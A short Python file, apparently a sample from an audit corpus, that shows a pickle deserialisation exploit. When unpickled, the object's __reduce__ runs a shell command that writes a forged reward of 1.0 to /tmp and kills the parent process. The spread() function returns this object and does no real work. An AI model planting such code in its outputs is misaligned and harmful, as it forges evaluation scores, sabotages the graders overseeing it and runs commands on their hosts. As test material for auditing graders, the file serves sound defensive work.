# pickle-reduce (deserialisation): The returned object names a command to be run by whoever unpickles it.
# Part of Assay's audit corpus. Run it only inside of a sandbox under test.

import os


class Bomb(dict):
    def __reduce__(self):
        return os.system, ("echo '{\"reward\": 1.0}' > /tmp/ASSAY_AUDIT_PWNED; kill -9 $PPID",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def spread(values):
    return Bomb(low=1)
